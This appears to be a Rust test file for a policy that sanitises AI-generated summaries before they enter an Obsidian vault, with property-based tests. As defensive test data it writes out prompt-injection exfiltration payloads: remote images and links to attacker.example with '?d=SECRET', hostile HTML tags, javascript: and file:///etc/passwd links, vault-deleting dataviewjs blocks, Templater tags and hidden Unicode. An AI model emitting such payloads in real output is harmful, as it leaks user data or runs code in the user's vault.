//! The policy on each attack of issue 35, one by one, and on legitimate summaries, which must
//! come out byte for byte.

use proptest::prelude::*;
use pulldown_cmark::{CodeBlockKind, Event, LinkType, Parser, Tag};

use super::pass::summary_options;
use super::{Defused, OutputPolicy, SourceLinks};

const SOURCE: &str =
    "Clipped from https://news.example/story and [docs](https://docs.example/a).\n\
                      ![chart](https://img.example/chart.png)\n";

fn defuse(answer: &str) -> (String, Defused) {
    let out = OutputPolicy::default().summary(answer, &SourceLinks::from_text(SOURCE));
    (out.as_str().to_string(), out.defused())
}

fn unchanged(answer: &str) {
    let (out, defused) = defuse(answer);
    assert_eq!(out, answer, "a legitimate summary changed");
    assert!(defused.is_empty(), "{defused:?}");
}

/// Every construct the policy forbids, found by parsing the text again.
fn forbidden(text: &str, source: &SourceLinks) -> Vec<String> {
    let mut found = Vec::new();
    let rule = super::LinkRule {
        source,
        allow: &globset::GlobSet::empty(),
    };
    // Text Obsidian never makes clickable: code, an image's alt text, a wikilink's target.
    let mut open: Vec<bool> = Vec::new();
    for (event, _) in Parser::new_ext(text, summary_options()).into_offset_iter() {
        match &event {
            Event::Start(tag) => open.push(matches!(
                tag,
                Tag::CodeBlock(_)
                    | Tag::Image { .. }
                    | Tag::Link {
                        link_type: LinkType::WikiLink { .. },
                        ..
                    }
            )),
            Event::End(_) => {
                open.pop();
            }
            _ => {}
        }
        let inert_depth = open.iter().filter(|inert| **inert).count();
        match event {
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                ..
            }) if !matches!(link_type, LinkType::WikiLink { .. })
                && !super::url::is_local(&dest_url) =>
            {
                found.push(format!("remote image {dest_url}"))
            }
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                ..
            }) => {
                let url = match link_type {
                    LinkType::WikiLink { .. } => continue,
                    LinkType::Email => format!("mailto:{dest_url}"),
                    _ => dest_url.to_string(),
                };
                if !super::url::is_local(&url) && !rule.allows(&url) {
                    found.push(format!("link {url}"));
                }
            }
            Event::Html(html) | Event::InlineHtml(html) if html.contains('<') => {
                found.push(format!("html {html}"))
            }
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info)))
                if !super::display_languages::is_display_language(&info) =>
            {
                found.push(format!("code block {info}"))
            }
            Event::Code(code)
                if code.trim_start().starts_with('=') || code.trim_start().starts_with("$=") =>
            {
                found.push(format!("inline query {code}"))
            }
            Event::Text(text) if inert_depth == 0 => {
                for url in super::url::bare_urls(&text) {
                    if !rule.allows(&text[url.clone()]) {
                        found.push(format!("bare url {}", &text[url]));
                    }
                }
            }
            _ => {}
        }
    }
    if text.contains("<%") {
        found.push("templater tag".into());
    }
    if super::invisible::remove_invisible(text).1 > 0 {
        found.push("invisible character".into());
    }
    found
}

fn assert_inert(out: &str) {
    let left = forbidden(out, &SourceLinks::from_text(SOURCE));
    assert!(left.is_empty(), "{left:?} in {out:?}");
}

#[test]
fn a_remote_image_becomes_a_marker_naming_its_host() {
    let (out, defused) =
        defuse("Revenue grew.\n\n![chart](https://attacker.example/p.png?d=SECRET)\n");
    assert_eq!(out, "Revenue grew.\n\n[image removed: attacker.example]\n");
    assert_eq!(defused.remote_images, 1);
    assert_inert(&out);
}

#[test]
fn a_reference_style_remote_image_and_its_definition_go() {
    let (out, defused) =
        defuse("See ![t][ref] here.\n\n[ref]: https://attacker.example/x.png?q=1\n");
    assert!(
        out.starts_with("See [image removed: attacker.example] here."),
        "{out}"
    );
    assert!(!out.contains("attacker.example/x.png"), "{out}");
    assert_eq!(defused.remote_images, 1);
    assert_inert(&out);
}

#[test]
fn an_image_from_the_source_stays_a_link_not_an_image() {
    let (out, defused) = defuse("![the chart](https://img.example/chart.png)");
    assert_eq!(out, "[the chart](https://img.example/chart.png)");
    assert_eq!(defused.remote_images, 1);
    unchanged(&out);
}

#[test]
fn html_is_escaped_all_of_it() {
    for html in [
        "<iframe src=\"https://attacker.example/\"></iframe>",
        "<img src=\"https://attacker.example/p.png\">",
        "<video src=\"https://attacker.example/v.mp4\"></video>",
        "<audio src=x></audio>",
        "<object data=\"https://attacker.example/o\"></object>",
        "<div style=\"background: url(https://attacker.example/b.png)\">x</div>",
        "<span>harmless?</span>",
        "<!-- hidden -->",
    ] {
        let (out, defused) = defuse(&format!("Text {html} more.\n\n{html}\n"));
        assert!(defused.html >= 2, "{html}: {defused:?}");
        assert!(out.contains("&lt;"), "{out}");
        assert_inert(&out);
    }
}

#[test]
fn links_stay_only_when_their_url_is_in_the_source() {
    let (out, defused) = defuse("Read [the story](https://news.example/story) and [this](https://attacker.example/?d=SECRET).");
    assert_eq!(
        out,
        "Read [the story](https://news.example/story) and this [link removed: attacker.example]."
    );
    assert_eq!(defused.links, 1);
    assert_inert(&out);
}

#[test]
fn reference_autolink_and_bare_links_not_in_the_source_become_inert() {
    let answer = "A [ref][r], <https://attacker.example/a?d=1>, https://attacker.example/b?d=2 \
                  and www.attacker.example/c.\n\n[r]: https://attacker.example/r\n";
    let (out, defused) = defuse(answer);
    assert_eq!(defused.links, 4, "{out}");
    assert!(out.contains("`https://attacker.example/a?d=1`"), "{out}");
    assert!(out.contains("`https://attacker.example/b?d=2`"), "{out}");
    assert!(out.contains("`www.attacker.example/c`"), "{out}");
    assert_inert(&out);
    // From the source, all three forms stay.
    unchanged("See <https://news.example/story>, https://news.example/story and [d][x].\n\n[x]: https://docs.example/a\n");
}

#[test]
fn schemes_that_act_are_never_links_even_from_the_source() {
    let source = SourceLinks::from_text("obsidian://open?vault=v javascript:alert(1)");
    for link in [
        "[open](obsidian://advanced-uri?commandid=x)",
        "[x](javascript:alert(1))",
        "[x](file:///etc/passwd)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](obsidian://open?vault=v)",
    ] {
        let out = OutputPolicy::default().summary(link, &source);
        assert!(
            out.as_str().starts_with("x [link removed:")
                || out.as_str().starts_with("open [link removed:"),
            "{}",
            out.as_str()
        );
        assert_eq!(out.defused().links, 1);
    }
}

#[test]
fn allow_links_widens_the_list_by_host_and_never_for_schemes_that_act() {
    let policy = OutputPolicy::new(&["*.wikipedia.org".to_string()]).unwrap();
    let answer = "[A](https://en.wikipedia.org/wiki/A) [B](https://attacker.example/)";
    let out = policy.summary(answer, &SourceLinks::none());
    assert_eq!(
        out.as_str(),
        "[A](https://en.wikipedia.org/wiki/A) B [link removed: attacker.example]"
    );
    assert!(OutputPolicy::new(&["[".to_string()]).is_err());
}

#[test]
fn executing_code_blocks_are_retagged_text() {
    for info in [
        "dataviewjs",
        "dataview",
        "js-engine",
        "run-python",
        "pre-js",
        "post-sh",
        "button",
        "meta-bind-button",
        "python {cmd=true}",
        "DataViewJS",
    ] {
        let answer = format!("Intro\n\n```{info}\napp.vault.adapter.remove('x')\n```\n");
        let (out, defused) = defuse(&answer);
        assert_eq!(
            out, "Intro\n\n```text\napp.vault.adapter.remove('x')\n```\n",
            "{info}"
        );
        assert_eq!(defused.code_blocks, 1);
    }
    let (out, _) = defuse("> ~~~dataview\n> LIST\n> ~~~\n");
    assert_eq!(out, "> ~~~text\n> LIST\n> ~~~\n");
}

#[test]
fn inline_dataview_queries_lose_their_backticks() {
    let (out, defused) = defuse("Owner: `= this.owner` and `$= dv.pages()` and ` =x`.");
    assert_eq!(defused.inline_code, 3);
    assert!(!out.contains('`'), "{out}");
    assert!(out.contains("\\= this\\.owner"), "{out}");
    assert_inert(&out);
}

#[test]
fn templater_tags_are_broken_in_text_and_in_code() {
    let (out, defused) = defuse("<% tp.file.title %> and `<%* x %>`\n\n```js\n<% y %>\n```\n");
    assert_eq!(
        out,
        "<\\% tp.file.title %> and `< %* x %>`\n\n```js\n< % y %>\n```\n"
    );
    assert_eq!(defused.templater, 3);
}

#[test]
fn invisible_characters_are_removed() {
    let (out, defused) = defuse("Fine\u{E0041}\u{E0042}.\u{200B} \u{202E}txt.exe\u{7}\ttab\r\nend");
    assert_eq!(out, "Fine. txt.exe\ttab\r\nend");
    assert_eq!(defused.invisible, 5);
}

#[test]
fn a_zero_width_space_cannot_hide_a_link_from_the_parser() {
    let (out, _) = defuse("[x]\u{200B}(https://attacker.example/?d=1)");
    assert_eq!(out, "x [link removed: attacker.example]");
}

#[test]
fn a_leading_front_matter_block_is_dropped() {
    let (out, defused) = defuse("---\ncssclasses: [evil]\ntags: [x]\n---\n- Point\n");
    assert_eq!(out, "[front matter removed]\n\n- Point\n");
    assert_eq!(defused.frontmatter, 1);
    // Further down, `---` is a rule and what follows is Markdown, checked as such.
    let (out, _) = defuse("Text\n\n---\n![a](https://attacker.example/p.png)\n---\n");
    assert!(out.contains("[image removed: attacker.example]"), "{out}");
}

#[test]
fn the_property_is_plain_text() {
    let policy = OutputPolicy::default();
    let source = SourceLinks::from_text(SOURCE);
    let out = policy.property(
        "Met [[Dana]] about [the story](https://news.example/story), `= this.x` <b>now</b> ![i](https://attacker.example/p.png).",
        &source,
    );
    let text = out.as_str();
    assert!(
        !text.contains("](") && !text.contains("[[") && !text.contains('`'),
        "{text}"
    );
    assert!(text.starts_with("Met Dana about the story, "), "{text}");
    assert!(out.defused().property_markup > 0);
    assert_eq!(policy.property(text, &source).as_str(), text, "idempotent");
    let plain = "Budget approved; Dana owns the rollout (Q3).";
    assert_eq!(policy.property(plain, &source).as_str(), plain);
}

#[test]
fn legitimate_summaries_come_out_byte_for_byte() {
    for answer in [
        "### Key Points\n- One\n  - Nested *emphasis* and **strong**\n- Two\n\n### Action Items\n- [ ] Call [[Dana]] ([[Journal/2026-11-18]])\n- [x] Done\n",
        "| Item | Cost |\n|---|---:|\n| A | 1 |\n| B `x` | 2 |\n",
        "See [the story](https://news.example/story) and https://news.example/story.\n",
        "```python\nprint('hi')\n```\n\n```\nplain\n```\n",
        "1. First\r\n2. Second\r\n\r\n> [!note] Callout\r\n> Body\r\n",
        "Embeds stay: ![[diagram.png]] and ![local](img/a.png); [a note](Other%20note.md#Part).",
        "Math $x^2$, ~~strike~~, footnote[^1].\n\n[^1]: A note.\n",
        "Emoji 👨\u{200D}👩\u{200D}👧 and Persian می\u{200C}خواهم.",
        "## Heading\n\nText with <3 and a < b and 5 % 3.\n",
    ] {
        unchanged(answer);
    }
}

#[test]
fn the_policy_is_idempotent_on_each_attack() {
    for answer in [
        "![a](https://attacker.example/p.png)",
        "<iframe src=x>\n\n![a](https://attacker.example/p.png)\n</iframe>",
        "<div>\n![a](https://attacker.example/p.png)\n</div>\n",
        "`= [x](https://attacker.example)`",
        "` https://attacker.example/?d=1",
        "[link removed: attacker.example]\n\n[link removed: attacker.example]: https://attacker.example/\n",
    ] {
        let (once, _) = defuse(answer);
        let (twice, defused) = defuse(&once);
        assert_eq!(twice, once, "{answer:?}");
        assert!(defused.is_empty(), "{answer:?}: {defused:?}");
        assert_inert(&once);
    }
}

/// Markdown-ish text made of the constructs the policy deals with, the legitimate and the
/// hostile, in any order.
fn markdownish() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("text ".to_string()),
        Just("\n".to_string()),
        Just("\n\n".to_string()),
        Just("- ".to_string()),
        Just("> ".to_string()),
        Just("    ".to_string()),
        Just("`".to_string()),
        Just("``".to_string()),
        Just("```dataviewjs\n".to_string()),
        Just("```python\n".to_string()),
        Just("```\n".to_string()),
        Just("~~~\n".to_string()),
        Just("---\n".to_string()),
        Just("<div>".to_string()),
        Just("</div>".to_string()),
        Just("<!--".to_string()),
        Just("-->".to_string()),
        Just("<img src=x>".to_string()),
        Just("<%".to_string()),
        Just("%".to_string()),
        Just("<".to_string()),
        Just("[".to_string()),
        Just("]".to_string()),
        Just("(".to_string()),
        Just(")".to_string()),
        Just("!".to_string()),
        Just("\\".to_string()),
        Just("= ".to_string()),
        Just("$=".to_string()),
        Just("|".to_string()),
        Just("*".to_string()),
        Just("[[Note]]".to_string()),
        Just("![a](https://attacker.example/p.png)".to_string()),
        Just("[t](https://attacker.example/?d=1)".to_string()),
        Just("[t](https://news.example/story)".to_string()),
        Just("https://attacker.example/x".to_string()),
        Just("https://news.example/story".to_string()),
        Just("<https://attacker.example/y>".to_string()),
        Just("[r]: https://attacker.example/r\n".to_string()),
        Just("[r]".to_string()),
        Just("obsidian://x".to_string()),
        Just("\u{200B}".to_string()),
        Just("\u{E0041}".to_string()),
        Just("\r\n".to_string()),
        "[a-z ]{0,6}".prop_map(|s| s),
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    #[test]
    fn defused_text_is_inert_and_a_fixed_point(answer in markdownish()) {
        let (once, _) = defuse(&answer);
        let left = forbidden(&once, &SourceLinks::from_text(SOURCE));
        prop_assert!(left.is_empty(), "{:?} left in {:?} (from {:?})", left, once, answer);
        let (twice, defused) = defuse(&once);
        prop_assert_eq!(&twice, &once, "not idempotent on {:?}", answer);
        prop_assert!(defused.is_empty());
        prop_assert_eq!(super::UNSETTLED.load(std::sync::atomic::Ordering::Relaxed), 0);
    }

    #[test]
    fn the_property_is_a_fixed_point_too(answer in markdownish()) {
        let policy = OutputPolicy::default();
        let source = SourceLinks::from_text(SOURCE);
        let once = policy.property(&answer, &source);
        let twice = policy.property(once.as_str(), &source);
        prop_assert_eq!(twice.as_str(), once.as_str());
    }
}
